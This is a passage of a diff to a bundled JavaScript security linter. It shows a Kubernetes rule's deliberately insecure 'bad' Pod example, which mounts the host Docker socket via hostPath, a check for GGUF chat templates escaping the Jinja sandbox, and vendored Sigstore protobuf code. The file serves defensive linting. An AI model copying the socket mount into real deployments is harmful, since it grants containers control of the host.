+                            '      image: ghcr.io/acme/model-server:1.4.2',
+                            '      volumeMounts:',
+                            '        - name: docker',
+                            '          mountPath: /var/run/docker.sock',
+                            '  volumes:',
+                            '    - name: docker',
+                            '      hostPath:',
+                            '        path: /var/run/docker.sock',
+                        ].join('\n'),
+                    },
+                ],
+                good: [
+                    {
+                        title: 'The model cache on a PersistentVolumeClaim',
+                        lang: 'yaml',
+                        file: 'k8s/pod.yaml',
+                        code: [
+                            'apiVersion: v1',
+                            'kind: Pod',
+                            'metadata:',
+                            '  name: model-server',
+                            'spec:',
+                            '  containers:',
+                            '    - name: server',
+                            '      image: ghcr.io/acme/model-server:1.4.2',
+                            '      volumeMounts:',
+                            '        - name: model-cache',
+                            '          mountPath: /models',
+                            '  volumes:',
+                            '    - name: model-cache',
+                            '      persistentVolumeClaim:',
+                            '        claimName: model-cache',
+                        ].join('\n'),
+                    },
+                ],
+            },
+            references: [
+                { title: 'Kubernetes: hostPath volumes (and their warning)', url: 'https://kubernetes.io/docs/concepts/storage/volumes/#hostpath' },
+                { title: 'Kubernetes Pod Security Standards (baseline forbids hostPath)', url: 'https://kubernetes.io/docs/concepts/security/pod-security-standards/' },
+            ],
+        },
         kinds: ['k8s'],
         options: { type: 'object', properties: {}, additionalProperties: false },
         defaultOptions: {},
@@ -68737,7 +70379,7 @@ var Ternary = class extends Expression {
 };
 
 // src/parser.ts
-function parse(tokens) {
+function parse$1(tokens) {
   const program = new Program([]);
   let current = 0;
   function expect(type, error) {
@@ -69967,7 +71609,7 @@ function propertyName(n) {
 function checkChatTemplate(source) {
     let program;
     try {
-        program = parse(tokenize(source, { lstrip_blocks: true, trim_blocks: true }));
+        program = parse$1(tokenize(source, { lstrip_blocks: true, trim_blocks: true }));
     }
     catch (error) {
         // Jinja2 accepts more than this parser (e.g. `()`), so an unparsed template is still searched as text.
@@ -70254,6 +71896,6770 @@ function checkTemplate(ctx, key, template, byteOffset) {
             message: `GGUF ${key} reaches outside the Jinja sandbox (${list})${unparsed}, the CVE-2024-34359 pattern: rendering it can run code on the inference server; ${FIX$2}.`,
         });
     }
+}
+
+var dist$3 = {};
+
+var build = {};
+
+var dist$2 = {};
+
+var envelope = {};
+
+var hasRequiredEnvelope;
+
+function requireEnvelope () {
+	if (hasRequiredEnvelope) return envelope;
+	hasRequiredEnvelope = 1;
+	(function (exports) {
+		// Code generated by protoc-gen-ts_proto. DO NOT EDIT.
+		// versions:
+		//   protoc-gen-ts_proto  v2.12.0
+		//   protoc               v7.35.1
+		// source: envelope.proto
+		Object.defineProperty(exports, "__esModule", { value: true });
+		exports.Signature = exports.Envelope = void 0;
+		exports.Envelope = {
+		    fromJSON(object) {
+		        return {
+		            payload: isSet(object.payload) ? Buffer.from(bytesFromBase64(object.payload)) : Buffer.alloc(0),
+		            payloadType: isSet(object.payloadType) ? globalThis.String(object.payloadType) : "",
+		            signatures: globalThis.Array.isArray(object?.signatures)
+		                ? object.signatures.map((e) => exports.Signature.fromJSON(e))
+		                : [],
+		        };
+		    },
+		    toJSON(message) {
+		        const obj = {};
+		        if (message.payload.length !== 0) {
+		            obj.payload = base64FromBytes(message.payload);
+		        }
+		        if (message.payloadType !== "") {
+		            obj.payloadType = message.payloadType;
+		        }
+		        if (message.signatures?.length) {
+		            obj.signatures = message.signatures.map((e) => exports.Signature.toJSON(e));
+		        }
+		        return obj;
+		    },
+		};
+		exports.Signature = {
+		    fromJSON(object) {
+		        return {
+		            sig: isSet(object.sig) ? Buffer.from(bytesFromBase64(object.sig)) : Buffer.alloc(0),
+		            keyid: isSet(object.keyid) ? globalThis.String(object.keyid) : "",
+		        };
+		    },
+		    toJSON(message) {
+		        const obj = {};
+		        if (message.sig.length !== 0) {
+		            obj.sig = base64FromBytes(message.sig);
+		        }
+		        if (message.keyid !== "") {
+		            obj.keyid = message.keyid;
+		        }
+		        return obj;
+		    },
+		};
+		function bytesFromBase64(b64) {
+		    return Uint8Array.from(globalThis.Buffer.from(b64, "base64"));
+		}
+		function base64FromBytes(arr) {
+		    return globalThis.Buffer.from(arr).toString("base64");
+		}
+		function isSet(value) {
+		    return value !== null && value !== undefined;
+		} 
+	} (envelope));
+	return envelope;
+}
+
+var sigstore_bundle = {};
+
+var sigstore_common = {};
+
+var timestamp$2 = {};
+
+var hasRequiredTimestamp$2;
+
+function requireTimestamp$2 () {
+	if (hasRequiredTimestamp$2) return timestamp$2;
+	hasRequiredTimestamp$2 = 1;
+	// Code generated by protoc-gen-ts_proto. DO NOT EDIT.
+	// versions:
+	//   protoc-gen-ts_proto  v2.12.0
+	//   protoc               v7.35.1
+	// source: google/protobuf/timestamp.proto
+	Object.defineProperty(timestamp$2, "__esModule", { value: true });
+	timestamp$2.Timestamp = void 0;
+	timestamp$2.Timestamp = {
+	    fromJSON(object) {
+	        return {
+	            seconds: isSet(object.seconds) ? globalThis.String(object.seconds) : "0",
+	            nanos: isSet(object.nanos) ? globalThis.Number(object.nanos) : 0,
+	        };
+	    },
+	    toJSON(message) {
+	        const obj = {};
+	        if (message.seconds !== "0") {
+	            obj.seconds = message.seconds;
+	        }
+	        if (message.nanos !== 0) {
+	            obj.nanos = Math.round(message.nanos);
+	        }
+	        return obj;
+	    },
+	};
+	function isSet(value) {
+	    return value !== null && value !== undefined;
+	}
+	return timestamp$2;
+}
+
+var hasRequiredSigstore_common;
+
+function requireSigstore_common () {
+	if (hasRequiredSigstore_common) return sigstore_common;
+	hasRequiredSigstore_common = 1;
+	(function (exports) {
+		// Code generated by protoc-gen-ts_proto. DO NOT EDIT.
+		// versions:
+		//   protoc-gen-ts_proto  v2.12.0
+		//   protoc               v7.35.1
+		// source: sigstore_common.proto
+		Object.defineProperty(exports, "__esModule", { value: true });
+		exports.TimeRange = exports.X509CertificateChain = exports.SubjectAlternativeName = exports.X509Certificate = exports.DistinguishedName = exports.ObjectIdentifierValuePair = exports.ObjectIdentifier = exports.PublicKeyIdentifier = exports.PublicKey = exports.RFC3161SignedTimestamp = exports.LogId = exports.MessageSignature = exports.HashOutput = exports.SubjectAlternativeNameType = exports.PublicKeyDetails = exports.HashAlgorithm = void 0;
+		exports.hashAlgorithmFromJSON = hashAlgorithmFromJSON;
+		exports.hashAlgorithmToJSON = hashAlgorithmToJSON;
+		exports.publicKeyDetailsFromJSON = publicKeyDetailsFromJSON;
+		exports.publicKeyDetailsToJSON = publicKeyDetailsToJSON;
+		exports.subjectAlternativeNameTypeFromJSON = subjectAlternativeNameTypeFromJSON;
+		exports.subjectAlternativeNameTypeToJSON = subjectAlternativeNameTypeToJSON;
+		/* eslint-disable */
+		const timestamp_1 = requireTimestamp$2();
+		/**
+		 * Only a subset of the secure hash standard algorithms are supported.
+		 * See <https://nvlpubs.nist.gov/nistpubs/FIPS/NIST.FIPS.180-4.pdf> for more
+		 * details.
+		 * UNSPECIFIED SHOULD not be used, primary reason for inclusion is to force
+		 * any proto JSON serialization to emit the used hash algorithm, as default
+		 * option is to *omit* the default value of an enum (which is the first
+		 * value, represented by '0'.
+		 */
+		var HashAlgorithm;
+		(function (HashAlgorithm) {
+		    HashAlgorithm[HashAlgorithm["HASH_ALGORITHM_UNSPECIFIED"] = 0] = "HASH_ALGORITHM_UNSPECIFIED";
+		    HashAlgorithm[HashAlgorithm["SHA2_256"] = 1] = "SHA2_256";
+		    HashAlgorithm[HashAlgorithm["SHA2_384"] = 2] = "SHA2_384";
+		    HashAlgorithm[HashAlgorithm["SHA2_512"] = 3] = "SHA2_512";
+		    /**
+		     * SHA3_256 - Used for LMS
+		     *
+		     * @deprecated
+		     */
+		    HashAlgorithm[HashAlgorithm["SHA3_256"] = 4] = "SHA3_256";
+		    /**
+		     * SHA3_384 - Used for LMS
+		     *
+		     * @deprecated
+		     */
+		    HashAlgorithm[HashAlgorithm["SHA3_384"] = 5] = "SHA3_384";
+		})(HashAlgorithm || (exports.HashAlgorithm = HashAlgorithm = {}));
+		function hashAlgorithmFromJSON(object) {
+		    switch (object) {
+		        case 0:
+		        case "HASH_ALGORITHM_UNSPECIFIED":
+		            return HashAlgorithm.HASH_ALGORITHM_UNSPECIFIED;
+		        case 1:
+		        case "SHA2_256":
+		            return HashAlgorithm.SHA2_256;
+		        case 2:
+		        case "SHA2_384":
+		            return HashAlgorithm.SHA2_384;
+		        case 3:
+		        case "SHA2_512":
+		            return HashAlgorithm.SHA2_512;
+		        case 4:
+		        case "SHA3_256":
+		            return HashAlgorithm.SHA3_256;
+		        case 5:
+		        case "SHA3_384":
+		            return HashAlgorithm.SHA3_384;
+		        default:
+		            throw new globalThis.Error("Unrecognized enum value " + object + " for enum HashAlgorithm");
+		    }
+		}
+		function hashAlgorithmToJSON(object) {
+		    switch (object) {
+		        case HashAlgorithm.HASH_ALGORITHM_UNSPECIFIED:
+		            return "HASH_ALGORITHM_UNSPECIFIED";
+		        case HashAlgorithm.SHA2_256:
+		            return "SHA2_256";
+		        case HashAlgorithm.SHA2_384:
+		            return "SHA2_384";
+		        case HashAlgorithm.SHA2_512:
+		            return "SHA2_512";
+		        case HashAlgorithm.SHA3_256:
+		            return "SHA3_256";
+		        case HashAlgorithm.SHA3_384:
+		            return "SHA3_384";
+		        default:
+		            throw new globalThis.Error("Unrecognized enum value " + object + " for enum HashAlgorithm");
+		    }
+		}
+		/**
+		 * Details of a specific public key, capturing the the key encoding method,
+		 * and signature algorithm.
+		 *
+		 * PublicKeyDetails captures the public key/hash algorithm combinations
+		 * recommended in the Sigstore ecosystem.
+		 *
+		 * This is modelled as a linear set as we want to provide a small number of
+		 * opinionated options instead of allowing every possible permutation.
+		 *
+		 * Any changes to this enum MUST be reflected in the algorithm registry.
+		 *
+		 * See: <https://github.com/sigstore/architecture-docs/blob/main/algorithm-registry.md>
+		 *
+		 * To avoid the possibility of contradicting formats such as PKCS1 with
+		 * ED25519 the valid permutations are listed as a linear set instead of a
+		 * cartesian set (i.e one combined variable instead of two, one for encoding
+		 * and one for the signature algorithm).
+		 */
+		var PublicKeyDetails;
+		(function (PublicKeyDetails) {
+		    PublicKeyDetails[PublicKeyDetails["PUBLIC_KEY_DETAILS_UNSPECIFIED"] = 0] = "PUBLIC_KEY_DETAILS_UNSPECIFIED";
+		    /**
+		     * PKCS1_RSA_PKCS1V5 - RSA
+		     *
+		     * @deprecated
+		     */
+		    PublicKeyDetails[PublicKeyDetails["PKCS1_RSA_PKCS1V5"] = 1] = "PKCS1_RSA_PKCS1V5";
+		    /**
+		     * PKCS1_RSA_PSS - See RFC8017
+		     *
+		     * @deprecated
+		     */
+		    PublicKeyDetails[PublicKeyDetails["PKCS1_RSA_PSS"] = 2] = "PKCS1_RSA_PSS";
+		    /** @deprecated */
+		    PublicKeyDetails[PublicKeyDetails["PKIX_RSA_PKCS1V5"] = 3] = "PKIX_RSA_PKCS1V5";
+		    /** @deprecated */
+		    PublicKeyDetails[PublicKeyDetails["PKIX_RSA_PSS"] = 4] = "PKIX_RSA_PSS";
+		    /** PKIX_RSA_PKCS1V15_2048_SHA256 - RSA public key in PKIX format, PKCS#1v1.5 signature */
+		    PublicKeyDetails[PublicKeyDetails["PKIX_RSA_PKCS1V15_2048_SHA256"] = 9] = "PKIX_RSA_PKCS1V15_2048_SHA256";
+		    PublicKeyDetails[PublicKeyDetails["PKIX_RSA_PKCS1V15_3072_SHA256"] = 10] = "PKIX_RSA_PKCS1V15_3072_SHA256";
+		    PublicKeyDetails[PublicKeyDetails["PKIX_RSA_PKCS1V15_4096_SHA256"] = 11] = "PKIX_RSA_PKCS1V15_4096_SHA256";
+		    /** PKIX_RSA_PSS_2048_SHA256 - RSA public key in PKIX format, RSASSA-PSS signature */
+		    PublicKeyDetails[PublicKeyDetails["PKIX_RSA_PSS_2048_SHA256"] = 16] = "PKIX_RSA_PSS_2048_SHA256";
+		    PublicKeyDetails[PublicKeyDetails["PKIX_RSA_PSS_3072_SHA256"] = 17] = "PKIX_RSA_PSS_3072_SHA256";
+		    PublicKeyDetails[PublicKeyDetails["PKIX_RSA_PSS_4096_SHA256"] = 18] = "PKIX_RSA_PSS_4096_SHA256";
+		    /**
+		     * PKIX_ECDSA_P256_HMAC_SHA_256 - ECDSA
+		     *
+		     * @deprecated
+		     */
+		    PublicKeyDetails[PublicKeyDetails["PKIX_ECDSA_P256_HMAC_SHA_256"] = 6] = "PKIX_ECDSA_P256_HMAC_SHA_256";
+		    /** PKIX_ECDSA_P256_SHA_256 - See NIST FIPS 186-4 */
+		    PublicKeyDetails[PublicKeyDetails["PKIX_ECDSA_P256_SHA_256"] = 5] = "PKIX_ECDSA_P256_SHA_256";
+		    PublicKeyDetails[PublicKeyDetails["PKIX_ECDSA_P384_SHA_384"] = 12] = "PKIX_ECDSA_P384_SHA_384";
+		    PublicKeyDetails[PublicKeyDetails["PKIX_ECDSA_P521_SHA_512"] = 13] = "PKIX_ECDSA_P521_SHA_512";
+		    /** PKIX_ED25519 - Ed 25519 */
+		    PublicKeyDetails[PublicKeyDetails["PKIX_ED25519"] = 7] = "PKIX_ED25519";
+		    PublicKeyDetails[PublicKeyDetails["PKIX_ED25519_PH"] = 8] = "PKIX_ED25519_PH";
+		    /**
+		     * PKIX_ECDSA_P384_SHA_256 - These algorithms are deprecated and should not be used, but they
+		     * were/are being used by most Sigstore clients implementations.
+		     *
+		     * @deprecated
+		     */
+		    PublicKeyDetails[PublicKeyDetails["PKIX_ECDSA_P384_SHA_256"] = 19] = "PKIX_ECDSA_P384_SHA_256";
+		    /** @deprecated */
+		    PublicKeyDetails[PublicKeyDetails["PKIX_ECDSA_P521_SHA_256"] = 20] = "PKIX_ECDSA_P521_SHA_256";
+		    /**
+		     * LMS_SHA256 - LMS and LM-OTS
+		     *
+		     * These algorithms are deprecated and should not be used.
+		     * There are no plans to support SLH-DSA at this time.
+		     *
+		     * USER WARNING: LMS and LM-OTS are both stateful signature schemes.
+		     * Using them correctly requires discretion and careful consideration
+		     * to ensure that individual secret keys are not used more than once.
+		     * In addition, LM-OTS is a single-use scheme, meaning that it
+		     * MUST NOT be used for more than one signature per LM-OTS key.
+		     * If you cannot maintain these invariants, you MUST NOT use these
+		     * schemes.
+		     *
+		     * @deprecated
+		     */
+		    PublicKeyDetails[PublicKeyDetails["LMS_SHA256"] = 14] = "LMS_SHA256";
+		    /** @deprecated */
+		    PublicKeyDetails[PublicKeyDetails["LMOTS_SHA256"] = 15] = "LMOTS_SHA256";
+		    /**
+		     * ML_DSA_44 - ML-DSA
+		     *
+		     * These ML_DSA_44, ML_DSA_65 and ML-DSA_87 algorithms are the pure variants
+		     * that take data to sign rather than the prehash variants (HashML-DSA), which
+		     * take digests. While considered quantum-resistant, their usage
+		     * involves tradeoffs in that signatures and keys are much larger, and
+		     * this makes deployments more costly.
+		     *
+		     * USER WARNING: ML_DSA_44, ML_DSA_65 and ML_DSA_87 are experimental algorithms.
+		     * In the future they MAY be used by private Sigstore deployments, but
+		     * they are not yet fully functional. This warning will be removed when
+		     * these algorithms are widely supported by Sigstore clients and servers,
+		     * but care should still be taken for production environments.
+		     *
+		     * See NIST FIPS 204, RFC 9881 for algorithm identifiers
+		     */
+		    PublicKeyDetails[PublicKeyDetails["ML_DSA_44"] = 23] = "ML_DSA_44";
+		    PublicKeyDetails[PublicKeyDetails["ML_DSA_65"] = 21] = "ML_DSA_65";
+		    PublicKeyDetails[PublicKeyDetails["ML_DSA_87"] = 22] = "ML_DSA_87";
+		})(PublicKeyDetails || (exports.PublicKeyDetails = PublicKeyDetails = {}));
+		function publicKeyDetailsFromJSON(object) {
+		    switch (object) {
+		        case 0:
+		        case "PUBLIC_KEY_DETAILS_UNSPECIFIED":
+		            return PublicKeyDetails.PUBLIC_KEY_DETAILS_UNSPECIFIED;
+		        case 1:
+		        case "PKCS1_RSA_PKCS1V5":
+		            return PublicKeyDetails.PKCS1_RSA_PKCS1V5;
+		        case 2:
+		        case "PKCS1_RSA_PSS":
+		            return PublicKeyDetails.PKCS1_RSA_PSS;
+		        case 3:
+		        case "PKIX_RSA_PKCS1V5":
+		            return PublicKeyDetails.PKIX_RSA_PKCS1V5;
+		        case 4:
+		        case "PKIX_RSA_PSS":
+		            return PublicKeyDetails.PKIX_RSA_PSS;
+		        case 9:
+		        case "PKIX_RSA_PKCS1V15_2048_SHA256":
+		            return PublicKeyDetails.PKIX_RSA_PKCS1V15_2048_SHA256;
+		        case 10:
+		        case "PKIX_RSA_PKCS1V15_3072_SHA256":
+		            return PublicKeyDetails.PKIX_RSA_PKCS1V15_3072_SHA256;
+		        case 11:
+		        case "PKIX_RSA_PKCS1V15_4096_SHA256":
+		            return PublicKeyDetails.PKIX_RSA_PKCS1V15_4096_SHA256;
+		        case 16:
+		        case "PKIX_RSA_PSS_2048_SHA256":
+		            return PublicKeyDetails.PKIX_RSA_PSS_2048_SHA256;
+		        case 17:
+		        case "PKIX_RSA_PSS_3072_SHA256":
+		            return PublicKeyDetails.PKIX_RSA_PSS_3072_SHA256;
+		        case 18:
+		        case "PKIX_RSA_PSS_4096_SHA256":
+		            return PublicKeyDetails.PKIX_RSA_PSS_4096_SHA256;
+		        case 6:
+		        case "PKIX_ECDSA_P256_HMAC_SHA_256":
+		            return PublicKeyDetails.PKIX_ECDSA_P256_HMAC_SHA_256;
+		        case 5:
+		        case "PKIX_ECDSA_P256_SHA_256":
+		            return PublicKeyDetails.PKIX_ECDSA_P256_SHA_256;
+		        case 12:
+		        case "PKIX_ECDSA_P384_SHA_384":
+		            return PublicKeyDetails.PKIX_ECDSA_P384_SHA_384;
+		        case 13:
+		        case "PKIX_ECDSA_P521_SHA_512":
+		            return PublicKeyDetails.PKIX_ECDSA_P521_SHA_512;
+		        case 7:
+		        case "PKIX_ED25519":
+		            return PublicKeyDetails.PKIX_ED25519;
+		        case 8:
+		        case "PKIX_ED25519_PH":
+		            return PublicKeyDetails.PKIX_ED25519_PH;
+		        case 19:
+		        case "PKIX_ECDSA_P384_SHA_256":
+		            return PublicKeyDetails.PKIX_ECDSA_P384_SHA_256;
+		        case 20:
+		        case "PKIX_ECDSA_P521_SHA_256":
+		            return PublicKeyDetails.PKIX_ECDSA_P521_SHA_256;
+		        case 14:
+		        case "LMS_SHA256":
+		            return PublicKeyDetails.LMS_SHA256;
+		        case 15:
+		        case "LMOTS_SHA256":
+		            return PublicKeyDetails.LMOTS_SHA256;
+		        case 23:
+		        case "ML_DSA_44":
+		            return PublicKeyDetails.ML_DSA_44;
+		        case 21:
+		        case "ML_DSA_65":
+		            return PublicKeyDetails.ML_DSA_65;
+		        case 22:
+		        case "ML_DSA_87":
+		            return PublicKeyDetails.ML_DSA_87;
+		        default:
+		            throw new globalThis.Error("Unrecognized enum value " + object + " for enum PublicKeyDetails");
+		    }
+		}
+		function publicKeyDetailsToJSON(object) {
+		    switch (object) {
+		        case PublicKeyDetails.PUBLIC_KEY_DETAILS_UNSPECIFIED:
+		            return "PUBLIC_KEY_DETAILS_UNSPECIFIED";
+		        case PublicKeyDetails.PKCS1_RSA_PKCS1V5:
+		            return "PKCS1_RSA_PKCS1V5";
+		        case PublicKeyDetails.PKCS1_RSA_PSS:
+		            return "PKCS1_RSA_PSS";
+		        case PublicKeyDetails.PKIX_RSA_PKCS1V5:
+		            return "PKIX_RSA_PKCS1V5";
+		        case PublicKeyDetails.PKIX_RSA_PSS:
+		            return "PKIX_RSA_PSS";
+		        case PublicKeyDetails.PKIX_RSA_PKCS1V15_2048_SHA256:
+		            return "PKIX_RSA_PKCS1V15_2048_SHA256";
+		        case PublicKeyDetails.PKIX_RSA_PKCS1V15_3072_SHA256:
+		            return "PKIX_RSA_PKCS1V15_3072_SHA256";
+		        case PublicKeyDetails.PKIX_RSA_PKCS1V15_4096_SHA256:
+		            return "PKIX_RSA_PKCS1V15_4096_SHA256";
+		        case PublicKeyDetails.PKIX_RSA_PSS_2048_SHA256:
+		            return "PKIX_RSA_PSS_2048_SHA256";
+		        case PublicKeyDetails.PKIX_RSA_PSS_3072_SHA256:
+		            return "PKIX_RSA_PSS_3072_SHA256";
+		        case PublicKeyDetails.PKIX_RSA_PSS_4096_SHA256:
+		            return "PKIX_RSA_PSS_4096_SHA256";
+		        case PublicKeyDetails.PKIX_ECDSA_P256_HMAC_SHA_256:
+		            return "PKIX_ECDSA_P256_HMAC_SHA_256";
+		        case PublicKeyDetails.PKIX_ECDSA_P256_SHA_256:
+		            return "PKIX_ECDSA_P256_SHA_256";
+		        case PublicKeyDetails.PKIX_ECDSA_P384_SHA_384:
+		            return "PKIX_ECDSA_P384_SHA_384";
+		        case PublicKeyDetails.PKIX_ECDSA_P521_SHA_512:
+		            return "PKIX_ECDSA_P521_SHA_512";
+		        case PublicKeyDetails.PKIX_ED25519:
+		            return "PKIX_ED25519";
+		        case PublicKeyDetails.PKIX_ED25519_PH:
+		            return "PKIX_ED25519_PH";
+		        case PublicKeyDetails.PKIX_ECDSA_P384_SHA_256:
+		            return "PKIX_ECDSA_P384_SHA_256";
+		        case PublicKeyDetails.PKIX_ECDSA_P521_SHA_256:
+		            return "PKIX_ECDSA_P521_SHA_256";
+		        case PublicKeyDetails.LMS_SHA256:
+		            return "LMS_SHA256";
+		        case PublicKeyDetails.LMOTS_SHA256:
+		            return "LMOTS_SHA256";
+		        case PublicKeyDetails.ML_DSA_44:
+		            return "ML_DSA_44";
+		        case PublicKeyDetails.ML_DSA_65:
+		            return "ML_DSA_65";
+		        case PublicKeyDetails.ML_DSA_87:
+		            return "ML_DSA_87";
+		        default:
+		            throw new globalThis.Error("Unrecognized enum value " + object + " for enum PublicKeyDetails");
+		    }
+		}
+		var SubjectAlternativeNameType;
+		(function (SubjectAlternativeNameType) {
+		    SubjectAlternativeNameType[SubjectAlternativeNameType["SUBJECT_ALTERNATIVE_NAME_TYPE_UNSPECIFIED"] = 0] = "SUBJECT_ALTERNATIVE_NAME_TYPE_UNSPECIFIED";
+		    SubjectAlternativeNameType[SubjectAlternativeNameType["EMAIL"] = 1] = "EMAIL";
+		    SubjectAlternativeNameType[SubjectAlternativeNameType["URI"] = 2] = "URI";
+		    /**
+		     * OTHER_NAME - OID 1.3.6.1.4.1.57264.1.7
+		     * See https://github.com/sigstore/fulcio/blob/main/docs/oid-info.md#1361415726417--othername-san
+		     * for more details.
+		     */
+		    SubjectAlternativeNameType[SubjectAlternativeNameType["OTHER_NAME"] = 3] = "OTHER_NAME";
+		})(SubjectAlternativeNameType || (exports.SubjectAlternativeNameType = SubjectAlternativeNameType = {}));
+		function subjectAlternativeNameTypeFromJSON(object) {
+		    switch (object) {
+		        case 0:
+		        case "SUBJECT_ALTERNATIVE_NAME_TYPE_UNSPECIFIED":
+		            return SubjectAlternativeNameType.SUBJECT_ALTERNATIVE_NAME_TYPE_UNSPECIFIED;
+		        case 1:
+		        case "EMAIL":
+		            return SubjectAlternativeNameType.EMAIL;
+		        case 2:
+		        case "URI":
+		            return SubjectAlternativeNameType.URI;
+		        case 3:
+		        case "OTHER_NAME":
+		            return SubjectAlternativeNameType.OTHER_NAME;
+		        default:
+		            throw new globalThis.Error("Unrecognized enum value " + object + " for enum SubjectAlternativeNameType");
+		    }
+		}
+		function subjectAlternativeNameTypeToJSON(object) {
+		    switch (object) {
+		        case SubjectAlternativeNameType.SUBJECT_ALTERNATIVE_NAME_TYPE_UNSPECIFIED:
+		            return "SUBJECT_ALTERNATIVE_NAME_TYPE_UNSPECIFIED";
+		        case SubjectAlternativeNameType.EMAIL:
+		            return "EMAIL";
+		        case SubjectAlternativeNameType.URI:
+		            return "URI";
+		        case SubjectAlternativeNameType.OTHER_NAME:
+		            return "OTHER_NAME";
+		        default:
+		            throw new globalThis.Error("Unrecognized enum value " + object + " for enum SubjectAlternativeNameType");
+		    }
+		}
+		exports.HashOutput = {
+		    fromJSON(object) {
+		        return {
+		            algorithm: isSet(object.algorithm) ? hashAlgorithmFromJSON(object.algorithm) : 0,
+		            digest: isSet(object.digest) ? Buffer.from(bytesFromBase64(object.digest)) : Buffer.alloc(0),
+		        };
+		    },
+		    toJSON(message) {
+		        const obj = {};
+		        if (message.algorithm !== 0) {
+		            obj.algorithm = hashAlgorithmToJSON(message.algorithm);
+		        }
+		        if (message.digest.length !== 0) {
+		            obj.digest = base64FromBytes(message.digest);
+		        }
+		        return obj;
+		    },
+		};
+		exports.MessageSignature = {
+		    fromJSON(object) {
+		        return {
+		            messageDigest: isSet(object.messageDigest) ? exports.HashOutput.fromJSON(object.messageDigest) : undefined,
+		            signature: isSet(object.signature) ? Buffer.from(bytesFromBase64(object.signature)) : Buffer.alloc(0),
+		        };
+		    },
+		    toJSON(message) {
+		        const obj = {};
+		        if (message.messageDigest !== undefined) {
+		            obj.messageDigest = exports.HashOutput.toJSON(message.messageDigest);
+		        }
+		        if (message.signature.length !== 0) {
+		            obj.signature = base64FromBytes(message.signature);
+		        }
+		        return obj;
+		    },
+		};
+		exports.LogId = {
+		    fromJSON(object) {
+		        return { keyId: isSet(object.keyId) ? Buffer.from(bytesFromBase64(object.keyId)) : Buffer.alloc(0) };
+		    },
+		    toJSON(message) {
+		        const obj = {};
+		        if (message.keyId.length !== 0) {
+		            obj.keyId = base64FromBytes(message.keyId);
+		        }
+		        return obj;
+		    },
+		};
+		exports.RFC3161SignedTimestamp = {
+		    fromJSON(object) {
+		        return {
+		            signedTimestamp: isSet(object.signedTimestamp)
+		                ? Buffer.from(bytesFromBase64(object.signedTimestamp))
+		                : Buffer.alloc(0),
+		        };
+		    },
+		    toJSON(message) {
+		        const obj = {};
+		        if (message.signedTimestamp.length !== 0) {
+		            obj.signedTimestamp = base64FromBytes(message.signedTimestamp);
+		        }
+		        return obj;
+		    },
+		};
+		exports.PublicKey = {
+		    fromJSON(object) {
+		        return {
+		            rawBytes: isSet(object.rawBytes) ? Buffer.from(bytesFromBase64(object.rawBytes)) : undefined,
+		            keyDetails: isSet(object.keyDetails) ? publicKeyDetailsFromJSON(object.keyDetails) : 0,
+		            validFor: isSet(object.validFor) ? exports.TimeRange.fromJSON(object.validFor) : undefined,
+		        };
+		    },
+		    toJSON(message) {
+		        const obj = {};
+		        if (message.rawBytes !== undefined) {
+		            obj.rawBytes = base64FromBytes(message.rawBytes);
+		        }
+		        if (message.keyDetails !== 0) {
+		            obj.keyDetails = publicKeyDetailsToJSON(message.keyDetails);
+		        }
+		        if (message.validFor !== undefined) {
+		            obj.validFor = exports.TimeRange.toJSON(message.validFor);
+		        }
+		        return obj;
+		    },
+		};
+		exports.PublicKeyIdentifier = {
+		    fromJSON(object) {
+		        return { hint: isSet(object.hint) ? globalThis.String(object.hint) : "" };
+		    },
+		    toJSON(message) {
+		        const obj = {};
+		        if (message.hint !== "") {
+		            obj.hint = message.hint;
+		        }
+		        return obj;
+		    },
+		};
+		exports.ObjectIdentifier = {
+		    fromJSON(object) {
+		        return { id: globalThis.Array.isArray(object?.id) ? object.id.map((e) => globalThis.Number(e)) : [] };
+		    },
+		    toJSON(message) {
+		        const obj = {};
+		        if (message.id?.length) {
+		            obj.id = message.id.map((e) => Math.round(e));
+		        }
+		        return obj;
+		    },
+		};
+		exports.ObjectIdentifierValuePair = {
+		    fromJSON(object) {
+		        return {
+		            oid: isSet(object.oid) ? exports.ObjectIdentifier.fromJSON(object.oid) : undefined,
+		            value: isSet(object.value) ? Buffer.from(bytesFromBase64(object.value)) : Buffer.alloc(0),
+		        };
+		    },
+		    toJSON(message) {
+		        const obj = {};
+		        if (message.oid !== undefined) {
+		            obj.oid = exports.ObjectIdentifier.toJSON(message.oid);
+		        }
+		        if (message.value.length !== 0) {
+		            obj.value = base64FromBytes(message.value);
+		        }
+		        return obj;
+		    },
+		};
+		exports.DistinguishedName = {
+		    fromJSON(object) {
+		        return {
+		            organization: isSet(object.organization) ? globalThis.String(object.organization) : "",
+		            commonName: isSet(object.commonName) ? globalThis.String(object.commonName) : "",
+		        };
+		    },
+		    toJSON(message) {
+		        const obj = {};
+		        if (message.organization !== "") {
+		            obj.organization = message.organization;
+		        }
+		        if (message.commonName !== "") {
+		            obj.commonName = message.commonName;
+		        }
+		        return obj;
+		    },
+		};
+		exports.X509Certificate = {
+		    fromJSON(object) {
+		        return { rawBytes: isSet(object.rawBytes) ? Buffer.from(bytesFromBase64(object.rawBytes)) : Buffer.alloc(0) };
+		    },
+		    toJSON(message) {
+		        const obj = {};
+		        if (message.rawBytes.length !== 0) {
+		            obj.rawBytes = base64FromBytes(message.rawBytes);
+		        }
+		        return obj;
+		    },
+		};
+		exports.SubjectAlternativeName = {
+		    fromJSON(object) {
+		        return {
+		            type: isSet(object.type) ? subjectAlternativeNameTypeFromJSON(object.type) : 0,
+		            identity: isSet(object.regexp)
+		                ? { $case: "regexp", regexp: globalThis.String(object.regexp) }
+		                : isSet(object.value)
+		                    ? { $case: "value", value: globalThis.String(object.value) }
+		                    : undefined,
+		        };
+		    },
+		    toJSON(message) {
+		        const obj = {};
+		        if (message.type !== 0) {
+		            obj.type = subjectAlternativeNameTypeToJSON(message.type);
+		        }
+		        if (message.identity?.$case === "regexp") {
+		            obj.regexp = message.identity.regexp;
+		        }
+		        else if (message.identity?.$case === "value") {
+		            obj.value = message.identity.value;
+		        }
+		        return obj;
+		    },
+		};
+		exports.X509CertificateChain = {
+		    fromJSON(object) {
+		        return {
+		            certificates: globalThis.Array.isArray(object?.certificates)
+		                ? object.certificates.map((e) => exports.X509Certificate.fromJSON(e))
+		                : [],
+		        };
+		    },
+		    toJSON(message) {
+		        const obj = {};
+		        if (message.certificates?.length) {
+		            obj.certificates = message.certificates.map((e) => exports.X509Certificate.toJSON(e));
+		        }
+		        return obj;
+		    },
+		};
+		exports.TimeRange = {
+		    fromJSON(object) {
+		        return {
+		            start: isSet(object.start) ? fromJsonTimestamp(object.start) : undefined,
